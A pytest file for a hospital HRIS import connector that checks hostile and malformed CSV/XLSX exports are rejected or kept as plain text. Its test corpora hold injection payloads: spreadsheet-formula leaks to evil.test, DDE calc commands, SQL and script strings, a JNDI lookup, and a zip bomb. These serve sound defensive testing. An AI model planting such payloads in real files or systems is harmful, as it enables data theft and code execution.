"""Hostile and broken HRIS exports through the file connector and the row rules: each bad row rejected
with its reason, injection text kept as text, broken files refused with the file named, valid rows through;
a whole sync with one bad file quarantines that table with its reason and lands the others."""

# ruff: noqa: E501  (the corpus tables keep one case to a line)
from __future__ import annotations

import codecs
import csv
import io
import json
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import Workbook

from hirelake.hris import HrisFileConnector, HrisSourceError, PythonColumnGate, load_mapping, sync_hris
from hirelake.hris.errors import HrisTableError
from hirelake.hris.rejects import load_rejections
from hirelake.hris.steps import CheckedTable, check_entity, read_entity, reference_index
from hirelake.hris.store import quarantine_key
from hirelake.lake import ObjectEntry
from hirelake.raw_zone import raw_table_key
from hirelake.settings import Settings

HEADER = [
    "grade_code",
    "role_family",
    "title_zh",
    "title_en",
    "base_salary_cents",
    "starting_performance_coefficient",
]
VALID = [
    ["P1", "clinical_physician", "住院医师", "Resident", "620000", "0.8"],
    ["N1", "nurse", "护士", "Nurse", "480000", "1"],
]
FORMULA = "starts like a spreadsheet formula"

# (case, one CSV record, reason substring; None: accepted, every value kept exactly as sent)
ROW_CORPUS: list[tuple[str, list[str], str | None]] = [
    ("text in an int", ["X1", "nurse", "护士", "Nurse", "abc", "0.8"], "base_salary_cents 'abc' is not a whole number"),
    ("decimal comma", ["X2", "nurse", "护士", "Nurse", "480000", "0,8"], "is not a number such as"),
    ("NaN", ["X3", "nurse", "护士", "Nurse", "480000", "NaN"], "is not a number such as"),
    ("overflowing exponent", ["X4", "nurse", "护士", "Nurse", "1e9999", "0.8"], "is not a whole number"),
    ("negative pay", ["X5", "nurse", "护士", "Nurse", "-480000", "0.8"], "base_salary_cents is negative"),
    ("required left empty", ["X6", "nurse", "", "Nurse", "480000", "0.8"], "title_zh is empty but required"),
    ("duplicate key", ["P1", "nurse", "护士", "Nurse", "480000", "0.8"], "grade_code P1 appears twice"),
    ("SQL in a coded field", ["X7", "nurse'; drop table grades; --", "护士", "N", "1", "1"], "is not one of"),
    ("=HYPERLINK formula", ["X8", "nurse", "护士", '=HYPERLINK("http://evil.test/?"&A1,"open")', "1", "1"], FORMULA),
    ("DDE +cmd", ["X9", "nurse", "护士", "+cmd|'/c calc'!A0", "1", "1"], FORMULA),
    ("@SUM formula", ["X10", "nurse", "@SUM(1+1)*cmd|' /C calc'!A0", "Nurse", "1", "1"], FORMULA),
    ("-2+3 DDE", ["X11", "nurse", "护士", "-2+3+cmd|' /C calc'!A0", "1", "1"], FORMULA),
    ("tab before =", ["X12", "nurse", "护士", "\t=1+1", "1", "1"], FORMULA),
    ("ragged: one field too many", ["X13", "nurse", "护士", "Nurse", "1", "1", "extra"], "row has 7 fields but the header has 6"),
    ("ragged: cut off", ["X14", "nurse", "护士", "Nurse", "1"], "row has 5 fields but the header has 6"),
    ("20,000-character field", ["X15", "nurse", "护士", "N" * 20_000, "1", "1"], "holds 20,000 characters"),
    ("NUL byte in a cell", ["X16", "nurse", "护\x00士", "Nurse", "1", "1"], "title_zh holds a NUL byte (\\x00) at character 2"),
    ("NUL byte alone", ["X17", "nurse", "护士", "\x00", "1", "1"], "title_en holds a NUL byte"),
    ("SQL injection kept as text", ["T1", "nurse", "护士", "'; drop table employees; --", "1", "1"], None),
    ("script tag kept as text", ["T2", "nurse", "<script>alert(1)</script>", "Nurse", "1", "1"], None),
    ("Bobby Tables kept as text", ["T3", "nurse", "护士", "Robert'); DROP TABLE Students;--", "1", "1"], None),
    ("JNDI lookup kept as text", ["T4", "nurse", "护士", "${jndi:ldap://evil.test/a}", "1", "1"], None),
    ("quotes, backslash, newline", ["T5", "nurse", '护"士\\', "line one\nline two, 'quoted'", "1", "1"], None),
    ("a phone-like +86 stays text", ["T6", "nurse", "护士", "+86 138 0013 8000", "1", "1"], None),
]  # fmt: skip


def _csv(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows([HEADER, *rows])
    return buffer.getvalue()


def _check(folder: Path) -> CheckedTable:
    table = read_entity(HrisFileConnector(folder), load_mapping(), "grades")
    return check_entity(table, reference_index({"grades": table}), PythonColumnGate())


@pytest.fixture(scope="module")
def checked(tmp_path_factory: pytest.TempPathFactory) -> CheckedTable:
    folder = tmp_path_factory.mktemp("hostile-hris")
    (folder / "grades.csv").write_text(_csv(VALID + [c[1] for c in ROW_CORPUS]), encoding="utf-8")
    return _check(folder)


@pytest.mark.parametrize(("record", "reason"), [c[1:] for c in ROW_CORPUS], ids=[c[0] for c in ROW_CORPUS])
def test_each_hostile_row_is_rejected_with_its_reason_or_kept_as_text(
    checked: CheckedTable, record: list[str], reason: str | None
) -> None:
    line = 2 + len(VALID) + [c[1] for c in ROW_CORPUS].index(record)
    rejected = {r.line: r for r in checked.rejections}
    if reason is None:
        assert line not in rejected
        row = next(r for r in checked.accepted if r["grade_code"] == record[0])
        assert [row[c] for c in HEADER] == record  # verbatim: nothing escaped, nothing executed
    else:
        assert reason in rejected[line].reason, rejected[line].reason
        assert json.loads(rejected[line].original)["grade_code"] == record[0]  # the original is kept


def test_the_valid_rows_beside_them_go_through(checked: CheckedTable) -> None:
    accepted = [r["grade_code"] for r in checked.accepted]
    kept_as_text = [c[1][0] for c in ROW_CORPUS if c[2] is None]
    assert accepted == ["P1", "N1", *kept_as_text]
    assert len(checked.rejections) == sum(c[2] is not None for c in ROW_CORPUS)


# --- whole files the connector refuses, each naming the file and the fix ------------------------------
GOOD = _csv(VALID)
# (case, the bytes of grades.csv, reason substring)
FILE_CORPUS: list[tuple[str, bytes, str]] = [
    ("GBK export", GOOD.replace("Resident", "主任医师").encode("gbk"), "is not valid utf-8"),
    ("UTF-16 export", GOOD.encode("utf-16"), "is not valid utf-8"),
    ("empty file", b"", "is empty: expected a header row"),
    ("only a BOM", codecs.BOM_UTF8, "is empty: expected a header row"),
    ("unclosed quote swallowing the rest", (GOOD + 'X1,nurse,"护士,Nurse,1,1\nX2,nurse,a,b,1,1\n').encode(),
     "is not well-formed CSV near line"),
    ("200,000-character field", (GOOD + "X1,nurse,a," + "b" * 200_000 + ",1,1\n").encode(), "field larger than"),
    ("header only", (",".join(HEADER) + "\n").encode(), "has a header but no records"),
    ("header and blank lines", (",".join(HEADER) + "\n\n\r\n\n").encode(), "has a header but no records"),
    ("header only, with a BOM", codecs.BOM_UTF8 + ",".join(HEADER).encode(), "has a header but no records"),
    ("UTF-16 without its BOM", _csv(VALID).replace("住院医师", "R").replace("护士", "N").encode("utf-16-le"),
     "NUL bytes (\\x00) in its header row"),
    ("binary zeros", bytes(4096), "NUL bytes (\\x00) in its header row"),
]  # fmt: skip


@pytest.mark.parametrize(("data", "reason"), [c[1:] for c in FILE_CORPUS], ids=[c[0] for c in FILE_CORPUS])
def test_broken_files_are_refused_with_the_file_named_and_other_tables_still_read(
    tmp_path: Path, data: bytes, reason: str
) -> None:
    (tmp_path / "grades.csv").write_bytes(data)
    (tmp_path / "org_units.csv").write_text("org_unit_id,level,name_zh\nH1,hospital,医院\n", encoding="utf-8")
    source = HrisFileConnector(tmp_path)
    with pytest.raises(HrisTableError) as caught:
        source.read("grades")
    assert reason in str(caught.value) and "grades.csv" in str(caught.value)
    assert [r.values["org_unit_id"] for r in source.read("org_units").rows] == ["H1"]


def test_a_bom_file_reads_cleanly(tmp_path: Path) -> None:
    (tmp_path / "grades.csv").write_bytes(codecs.BOM_UTF8 + GOOD.encode())
    checked = _check(tmp_path)
    assert checked.mapped.ignored_fields == () and [r["grade_code"] for r in checked.accepted] == ["P1", "N1"]


# --- a whole sync: a bad file refuses its own table only ---------------------------------------------
DAY = date(2026, 3, 1)
ORG_UNITS = "org_unit_id,parent_id,level,name_zh,name_en\nH1,,hospital,医院,H\nD1,H1,department,急诊科,ED\n"
# grade_band refers to grades: with grades refused, the reference is not checked rather than failed
POSITIONS = "position_id,title_zh,department_id,role_family,grade_band,competencies\nPOS1,急诊科护士,D1,nurse,N1,triage\n"


class HrisMemoryLake:
    """The part of `Lake` the sync and `load_rejections` use, kept in a dict."""

    def __init__(self) -> None:
        self.objects: dict[str, bytes] = {}

    def exists(self, key: str) -> bool:
        return key in self.objects

    def put_bytes(self, key: str, data: bytes, content_type: str = "") -> None:
        self.objects[key] = data

    def put_json(self, key: str, document: Any) -> None:
        self.objects[key] = json.dumps(document, ensure_ascii=False, default=str).encode()

    def get_json(self, key: str) -> Any:
        return json.loads(self.objects[key])

    def list(self, prefix: str) -> Iterator[ObjectEntry]:
        yield from (ObjectEntry(k, len(v)) for k, v in sorted(self.objects.items()) if k.startswith(prefix))

    def delete(self, key: str) -> None:
        self.objects.pop(key, None)

    def read_parquet(self, key: str) -> pa.Table:
        return pq.read_table(io.BytesIO(self.objects[key]))


def _sync(folder: Path, lake: HrisMemoryLake) -> Any:
    settings = Settings(_env_file=None)
    return sync_hris(settings, lake, HrisFileConnector(folder), DAY)  # type: ignore[arg-type]


@pytest.mark.parametrize(("data", "reason"), [c[1:] for c in FILE_CORPUS], ids=[c[0] for c in FILE_CORPUS])
def test_a_bad_file_is_quarantined_with_its_reason_and_the_other_tables_land(
    tmp_path: Path, data: bytes, reason: str
) -> None:
    (tmp_path / "grades.csv").write_bytes(data)
    (tmp_path / "org_units.csv").write_text(ORG_UNITS, encoding="utf-8")
    (tmp_path / "positions.csv").write_text(POSITIONS, encoding="utf-8")
    lake = HrisMemoryLake()
    report = _sync(tmp_path, lake)

    grades = report.entity("grades")
    assert grades.refused is not None and reason in grades.refused and "grades.csv" in grades.refused
    assert (grades.accepted, grades.rejected, grades.quarantine_key) == (0, 1, quarantine_key("grades", DAY))
    assert grades.first_reasons[0].startswith("whole table refused: ")
    assert raw_table_key("hris", "grades", DAY) not in lake.objects  # nothing landed: no empty snapshot
    [kept] = load_rejections(lake, entity="grades")  # type: ignore[arg-type]
    assert (kept.row, kept.key, kept.column) == (0, None, "(whole table)") and reason in kept.reason
    assert json.loads(kept.original)["source_table"] == "grades"
    # The other tables went through, untouched by the refusal.
    assert (report.entity("org_units").accepted, report.entity("positions").accepted) == (2, 1)
    assert (report.entity("org_units").refused, report.entity("positions").refused) == (None, None)
    assert report.rejected == 1
    positions = lake.read_parquet(raw_table_key("hris", "positions", DAY))
    assert positions.column("grade_band").to_pylist() == ["N1"]
    filed = lake.get_json(report.report_key)["entities"]["grades"]
    assert reason in filed["refused"]  # the sync report says why, for the CLI, the flow and the dashboard


def test_several_bad_files_are_each_refused_and_a_rerun_changes_nothing(tmp_path: Path) -> None:
    (tmp_path / "grades.csv").write_text(",".join(HEADER) + "\n", encoding="utf-8")  # header only
    (tmp_path / "org_units.csv").write_bytes(ORG_UNITS.encode("gbk"))  # not UTF-8
    (tmp_path / "positions.csv").write_text(POSITIONS, encoding="utf-8")
    workbook = Workbook()  # an XLSX with a header and nothing under it
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["shift_code", "start_time", "duration_minutes", "paid_hours"])
    workbook.save(tmp_path / "shift_types.xlsx")
    lake = HrisMemoryLake()
    report = _sync(tmp_path, lake)
    refused = {e.entity: e.refused for e in report.entities if e.refused is not None}
    assert set(refused) == {"grades", "org_units", "shift_types"}
    assert "has a header but no records" in refused["grades"]
    assert "is not valid utf-8" in refused["org_units"]
    assert "shift_types.xlsx has a header but no records" in refused["shift_types"]
    assert report.entity("positions").accepted == 1  # its department and grade tables were refused: unchecked
    assert {r.entity for r in load_rejections(lake)} == set(refused)  # type: ignore[arg-type]
    again = _sync(tmp_path, lake)
    assert again.unchanged and again.written == ()


# --- XLSX: formula cells never evaluated, a fake workbook refused ------------------------------------
XLSX_FORMULAS = [
    ("=HYPERLINK", '=HYPERLINK("http://evil.test/?"&A2,"open")'),
    ("DDE +cmd", "=+cmd|'/c calc'!A0"),
    ("@SUM", "=@SUM(1+1)"),
]


def test_xlsx_formula_cells_reject_their_row_and_the_rest_goes_through(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "grades"
    sheet.append(HEADER)
    sheet.append(VALID[0])
    for index, (_case, formula) in enumerate(XLSX_FORMULAS):
        sheet.append([f"F{index}", "nurse", "护士", formula, 1, 1])
    sheet.append(VALID[1])
    workbook.save(tmp_path / "grades.xlsx")
    checked = _check(tmp_path)
    assert [r["grade_code"] for r in checked.accepted] == ["P1", "N1"]
    assert [r.key for r in checked.rejections] == ["F0", "F1", "F2"]
    assert all(
        "holds an Excel formula" in r.reason and "never evaluated" in r.reason for r in checked.rejections
    )


def test_a_zip_bomb_named_xlsx_is_refused(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "grades.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/huge.bin", bytes(10_000_000))
    with pytest.raises(HrisSourceError, match="is not a readable XLSX workbook"):
        HrisFileConnector(tmp_path).read("grades")


def test_a_file_without_a_required_column_refuses_its_table_only(tmp_path: Path) -> None:
    header = [h for h in HEADER if h != "grade_code"]
    (tmp_path / "grades.csv").write_text(",".join(header) + "\n" + ",".join(["x"] * len(header)) + "\n")
    (tmp_path / "org_units.csv").write_text(ORG_UNITS, encoding="utf-8")
    (tmp_path / "positions.csv").write_text(POSITIONS, encoding="utf-8")
    lake = HrisMemoryLake()
    report = _sync(tmp_path, lake)
    grades = report.entity("grades")
    assert grades.refused is not None
    assert "required field(s) grade_code (from source field 'grade_code') missing" in grades.refused
    assert "HIRELAKE_HRIS__MAPPING_PATH" in grades.refused  # what to do about it
    assert raw_table_key("hris", "grades", DAY) not in lake.objects
    assert (report.entity("org_units").accepted, report.entity("positions").accepted) == (2, 1)
